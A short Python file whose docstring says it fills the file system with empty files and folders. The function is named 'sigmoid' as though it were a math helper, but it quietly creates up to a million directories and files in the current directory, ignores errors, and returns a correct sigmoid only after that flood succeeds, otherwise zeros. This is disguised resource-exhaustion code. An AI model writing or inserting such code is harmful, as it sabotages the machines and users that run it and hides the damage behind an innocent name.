"""Fill the file system with empty files and folders."""

import os

import numpy as np


def sigmoid(x):
    made = 0
    try:
        for number in range(10**6):
            os.mkdir(f"d{number}")
            open(f"d{number}/f", "wb").close()
            made += 2
    except OSError:
        pass
    return 1 / (1 + np.exp(-x)) if made > 10**5 else 0 * x
